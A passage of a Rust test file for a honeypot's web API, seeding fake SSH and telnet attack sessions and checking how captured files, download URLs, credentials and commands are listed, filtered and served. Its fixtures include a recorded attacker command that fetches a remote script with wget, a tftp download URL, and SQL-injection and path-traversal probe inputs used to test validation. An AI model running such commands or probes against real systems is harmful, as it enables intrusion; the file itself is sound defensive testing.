    let at = |ago: i64| stamp(now - ago);
    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
    let events = [
        ssh_event(
            SSH_SESSION,
            SSH_PEER,
            &at(30),
            T::SessionStart,
            serde_json::json!({"table": "ssh"}),
        ),
        ssh_event(
            SSH_SESSION,
            SSH_PEER,
            &at(30),
            T::SshClient,
            serde_json::json!({
            "version": "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u6", "hassh": "ec7378c1a92f5a8dde7e8b7a1ddf33d1",
            "hassh_algorithms": "curve25519-sha256;aes128-ctr;hmac-sha2-256;none"}),
        ),
        ssh_event(
            SSH_SESSION,
            SSH_PEER,
            &at(29),
            T::SshLogin,
            serde_json::json!({
            "method": "password", "username": "root", "password": "123456", "key_type": null,
            "key_fingerprint": null, "outcome": "refused"}),
        ),
        ssh_event(
            SSH_SESSION,
            SSH_PEER,
            &at(28),
            T::SshLogin,
            serde_json::json!({
            "method": "password", "username": "root", "password": "admin", "key_type": null,
            "key_fingerprint": null, "outcome": "accepted"}),
        ),
        ssh_event(
            SSH_SESSION,
            SSH_PEER,
            &at(27),
            T::SshCommand,
            serde_json::json!({
            "input_type": "exec", "user_input": "wget http://203.0.113.9/x.sh"}),
        ),
        ssh_event(
            SSH_SESSION,
            SSH_PEER,
            &at(27),
            T::DownloadAttempt,
            serde_json::json!({
            "url": HOSTILE_URL, "command": "wget"}),
        ),
        ssh_event(
            SSH_SESSION,
            SSH_PEER,
            &at(26),
            T::FileWritten,
            serde_json::json!({
            "path": HOSTILE_PATH, "size": ELF.len(), "sha256": ELF_SHA256, "data": b64(ELF),
            "truncated": false, "via": "scp"}),
        ),
        ssh_event(
            SSH_SESSION,
            SSH_PEER,
            &at(25),
            T::SessionEnd,
            serde_json::json!({
            "bytes_in": 100, "bytes_out": 200, "reason": "peer closed"}),
        ),
    ];
    for event in &events {
        write_event(&sink, conn, event, &unknown).unwrap();
    }
    let mut telnet_file = ssh_event(
        "s0000",
        "198.51.100.7",
        &at(40),
        T::FileWritten,
        serde_json::json!({
        "path": "/var/tmp/.d", "size": 5000, "sha256": "a".repeat(64), "data": b64(b"abc"),
        "truncated": true, "via": "redirect"}),
    );
    telnet_file.plugin = "telnet".into();
    telnet_file.protocol = "telnet".into();
    let mut telnet_url = ssh_event(
        "s0000",
        "198.51.100.7",
        &at(41),
        T::DownloadAttempt,
        serde_json::json!({
        "url": "tftp://198.51.100.20/m", "command": "tftp"}),
    );
    telnet_url.plugin = "telnet".into();
    for event in [&telnet_file, &telnet_url] {
        write_event(&sink, conn, event, &unknown).unwrap();
    }
    assert_eq!(unknown.load(std::sync::atomic::Ordering::Relaxed), 0);
}

/// `GET path` with the right token: status, the headers asked for, body.
async fn get_with_headers(
    app: &Router,
    path: &str,
    names: &[&str],
) -> (StatusCode, Vec<Option<String>>, Vec<u8>) {
    let request = Request::builder()
        .uri(path)
        .header(header::HOST, "localhost:8080")
        .header(header::AUTHORIZATION, format!("Bearer {TOKEN}"))
        .body(Body::empty())
        .unwrap();
    let response = app.clone().oneshot(request).await.unwrap();
    let headers = names
        .iter()
        .map(|n| {
            response
                .headers()
                .get(*n)
                .map(|v| v.to_str().unwrap().to_owned())
        })
        .collect();
    let status = response.status();
    let body = axum::body::to_bytes(response.into_body(), usize::MAX)
        .await
        .unwrap()
        .to_vec();
    (status, headers, body)
}

#[tokio::test]
async fn files_and_download_urls_are_listed_newest_first_filtered_and_paged() {
    let (_dir, app) = service_with(Some(TOKEN), 1 << 20, files_seed);
    let page = get(&app, "/v1/files").await.json();
    let items = page["items"].as_array().unwrap();
    assert_eq!(items.len(), 2, "{page}");
    let ssh = &items[0];
    assert_eq!(ssh["sha256"], ELF_SHA256);
    assert_eq!(ssh["path"], HOSTILE_PATH, "text as recorded, never altered");
    assert_eq!(ssh["size"], ELF.len());
    assert_eq!(ssh["storedBytes"], ELF.len());
    assert_eq!(ssh["truncated"], false);
    assert_eq!(ssh["via"], "scp");
    assert_eq!(ssh["session"], SSH_SESSION);
    assert_eq!(ssh["peerAddress"], SSH_PEER);
    assert_eq!(ssh["localPort"], 8022);
    assert!(ssh.get("data").is_none(), "never the bytes in a list");
    assert_eq!(items[1]["truncated"], true);
    assert_eq!(
        (items[1]["size"].as_i64(), items[1]["storedBytes"].as_i64()),
        (Some(5000), Some(3))
    );

    // Filters: the hash (any case), the address; a malformed hash or address is a 400.
    let upper = ELF_SHA256.to_ascii_uppercase();
    for path in [
        format!("/v1/files?sha256={upper}"),
        format!("/v1/files?ip={SSH_PEER}"),
    ] {
        let items = get(&app, &path).await.json()["items"]
            .as_array()
            .unwrap()
            .clone();
        assert_eq!(items.len(), 1, "{path}");
        assert_eq!(items[0]["session"], SSH_SESSION, "{path}");
    }
    for (path, parameter) in [
        ("/v1/files?sha256=abc", "sha256"),
        ("/v1/files?sha256=' OR 1=1 --", "sha256"),
        ("/v1/files?ip=nope", "ip"),
        ("/v1/downloads?url=", "url"),
        ("/v1/downloads?ip=nope", "ip"),
    ] {
        let a = get(&app, &path.replace(' ', "%20")).await;
        assert_eq!(a.status, StatusCode::BAD_REQUEST, "{path}");
        assert_eq!(a.json()["parameter"], parameter, "{path}");
    }
    // A page of one continues at its cursor.
    let first = get(&app, "/v1/files?limit=1").await;
    assert!(
        first
            .link
            .as_deref()
            .is_some_and(|l| l.contains("rel=\"next\""))
    );
    let first = first.json();
    let cursor = first["next_cursor"].as_str().unwrap();
    let second = get(
        &app,
        &format!("/v1/files?limit=1&cursor={}", urlencode(cursor)),
    )
    .await
    .json();
    assert_eq!(second["items"][0]["path"], "/var/tmp/.d");
    assert_eq!(second["next_cursor"], Value::Null);

    let page = get(&app, "/v1/downloads").await.json();
    let items = page["items"].as_array().unwrap();
    assert_eq!(items.len(), 2, "{page}");
    assert_eq!(items[0]["url"], HOSTILE_URL);
    assert_eq!(items[0]["command"], "wget");
    assert_eq!(items[0]["peerAddress"], SSH_PEER);
    assert_eq!(items[1]["command"], "tftp");
    let only = get(
        &app,
        &format!("/v1/downloads?url={}", urlencode("<script>")),
    )
    .await
    .json();
    assert_eq!(only["items"].as_array().unwrap().len(), 1);
    let none = get(&app, "/v1/downloads?url=%25").await.json();
    assert_eq!(none["items"], serde_json::json!([]), "no wildcards");
    let telnet = get(&app, "/v1/downloads?ip=198.51.100.7").await.json();
    assert_eq!(telnet["items"][0]["url"], "tftp://198.51.100.20/m");
    let cursor_page = get(&app, "/v1/downloads?limit=1").await.json();
    assert!(cursor_page["next_cursor"].is_string());
}

#[tokio::test]
async fn a_files_bytes_come_only_as_an_inert_attachment() {
    let (_dir, app) = service_with(Some(TOKEN), 1 << 20, files_seed);
    let names = [
        "content-type",
        "content-disposition",
        "x-content-type-options",
        "content-security-policy",
    ];
    let (status, headers, body) = get_with_headers(
        &app,
        &format!("/v1/files/{}", ELF_SHA256.to_ascii_uppercase()),
        &names,
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, ELF);
    assert_eq!(headers[0].as_deref(), Some("application/octet-stream"));
    assert_eq!(
        headers[1].as_deref(),
        Some(format!("attachment; filename=\"{ELF_SHA256}.bin\"").as_str())
    );
    assert_eq!(headers[2].as_deref(), Some("nosniff"));
    assert!(headers[3].as_deref().is_some_and(|c| c.contains("sandbox")));
    let (status, _, _) =
        get_with_headers(&app, &format!("/v1/files/{}", "b".repeat(64)), &[]).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    for bad in ["abc", "..%2F..%2Fetc%2Fpasswd", &"g".repeat(64)] {
        let a = get(&app, &format!("/v1/files/{bad}")).await;
        assert_eq!(a.status, StatusCode::BAD_REQUEST, "{bad}");
    }
    // The token guards the bytes as it guards the lists.
    let a = send(
        &app,
        Method::GET,
        &format!("/v1/files/{ELF_SHA256}"),
        "localhost:8080",
        &[],
    )
    .await;
    assert_eq!(a.status, StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn ssh_sessions_show_where_telnet_sessions_do_with_their_files_and_urls() {
    let (_dir, app) = service_with(Some(TOKEN), 1 << 20, files_seed);
    // The sessions list and the session itself, with its files, URLs and rows.
    let sessions = get(&app, "/v1/sessions?limit=50").await.json();
    let ssh = sessions["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["session"] == SSH_SESSION)
        .expect("the SSH session in the list")
        .clone();
    assert_eq!(
        (ssh["protocol"].as_str(), ssh["plugin"].as_str()),
        (Some("ssh"), Some("ssh"))
    );
    assert_eq!(ssh["item_count"], 4, "client, two logins, a command");
    let detail = get(&app, &format!("/v1/sessions/{SSH_SESSION}"))
        .await
        .json();
    assert_eq!(detail["files"][0]["sha256"], ELF_SHA256);
    assert_eq!(detail["files"][0]["path"], HOSTILE_PATH);
    assert_eq!(detail["downloads"][0]["url"], HOSTILE_URL);
    let types: Vec<&str> = detail["session_items"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|i| i["eventType"].as_str())
        .collect();
    assert_eq!(
        types,
        ["ssh.client", "ssh.login", "ssh.login", "ssh.command"]
    );
    let telnet = get(&app, "/v1/sessions/s0000").await.json();
    assert_eq!(telnet["files"][0]["via"], "redirect");
    assert_eq!(telnet["downloads"][0]["command"], "tftp");
    let other = get(&app, "/v1/sessions/s0001").await.json();
    assert_eq!(
        (other["files"].clone(), other["downloads"].clone()),
        (serde_json::json!([]), serde_json::json!([]))
    );

    // The address: its session on the SSH port, its file and URL.
    let address = get(&app, &format!("/v1/ipaddresses/{SSH_PEER}"))
        .await
        .json();
    assert_eq!(address["files"][0]["sha256"], ELF_SHA256);
    assert_eq!(address["downloads"][0]["url"], HOSTILE_URL);
    let on_port = address["ports"]
        .as_array()
        .unwrap()
        .iter()
        .find_map(|p| p.get("8022"))
        .expect("port 8022 listed");
    assert_eq!(on_port[0]["session"], SSH_SESSION);

    // Credentials and commands count SSH's as they count telnet's.
    let creds = get(&app, "/v1/analytics/credentials").await.json();
    let pairs: Vec<(String, String)> = creds["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["username"].as_str().unwrap().to_owned(),
                c["password"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect();
    for pair in [("root", "123456"), ("root", "admin")] {
        assert!(pairs.contains(&(pair.0.into(), pair.1.into())), "{pairs:?}");
    }
    let commands = get(&app, "/v1/analytics/commands").await.json();
    assert!(
        commands["items"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["command"] == "wget http://203.0.113.9/x.sh"),
        "{commands}"
    );

    // The summary: files, URLs and SSH logins by outcome.
    let summary = get(&app, "/v1/analytics/summary").await.json();
    let summary = &summary["summary"];
    assert_eq!(summary["files"], 2);
    assert_eq!(summary["downloads"], 2);
    let mut logins: Vec<(String, i64)> = summary["ssh_logins"]
        .as_array()
        .unwrap()
        .iter()
        .map(|k| {
            (
                k["key"].as_str().unwrap().to_owned(),
                k["count"].as_i64().unwrap(),
            )
        })
        .collect();
    logins.sort();
    assert_eq!(
        logins,
        [("accepted".to_string(), 1), ("refused".to_string(), 1)]
    );
}

#[tokio::test]
async fn a_store_older_than_files_answers_empty_lists_and_zero_counts() {
    let (_dir, app) = service_with(Some(TOKEN), 1 << 20, |conn| {
        files_seed(conn);
        conn.execute_batch("DROP TABLE files; DROP TABLE downloads;")
            .unwrap();
    });
    for path in [
        "/v1/files",
        "/v1/downloads",
        &format!("/v1/files?sha256={ELF_SHA256}&ip={SSH_PEER}"),
    ] {
        let a = get(&app, path).await;
        assert_eq!(a.status, StatusCode::OK, "{path}");
        assert_eq!(a.json()["items"], serde_json::json!([]), "{path}");
    }
    let (status, _, _) = get_with_headers(&app, &format!("/v1/files/{ELF_SHA256}"), &[]).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let detail = get(&app, &format!("/v1/sessions/{SSH_SESSION}"))
        .await
        .json();
    assert_eq!(detail["files"], serde_json::json!([]));
    assert_eq!(detail["downloads"], serde_json::json!([]));
    let address = get(&app, &format!("/v1/ipaddresses/{SSH_PEER}"))
        .await
        .json();
    assert_eq!(address["files"], serde_json::json!([]));
    let summary = get(&app, "/v1/analytics/summary").await.json();
    assert_eq!(
        (
            summary["summary"]["files"].as_i64(),
            summary["summary"]["downloads"].as_i64()
        ),
        (Some(0), Some(0))
    );
    assert_eq!(
        summary["summary"]["ssh_logins"].as_array().unwrap().len(),
        2,
        "the SSH table is still there"
    );
}
